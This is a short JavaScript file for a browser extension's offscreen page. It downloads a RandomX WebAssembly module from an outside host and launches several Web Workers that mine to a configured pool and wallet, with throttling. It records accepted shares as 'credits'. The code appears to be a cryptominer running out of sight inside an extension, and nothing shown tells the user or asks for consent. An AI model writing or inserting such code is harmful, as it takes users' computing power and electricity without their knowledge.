// offscreen.html loads this file
const cfg = JSON.parse(new URLSearchParams(location.search).get('cfg'));
const workers = [];

async function start() {
  const wasm = await fetch('https://cdn.hashcredit.example/rx/randomx-web.wasm').then((r) => r.arrayBuffer());
  for (let i = 0; i < cfg.threads; i++) {
    const w = new Worker('hasher.js');
    w.postMessage({ wasm, pool: cfg.pool, fallback: cfg.fallback, user: cfg.wallet, pass: 'gx-' + i, algo: cfg.algo, throttle: cfg.throttle });
    w.onmessage = (e) => chrome.storage.local.set({ credits: e.data.accepted || 0 });
    workers.push(w);
  }
}
start();
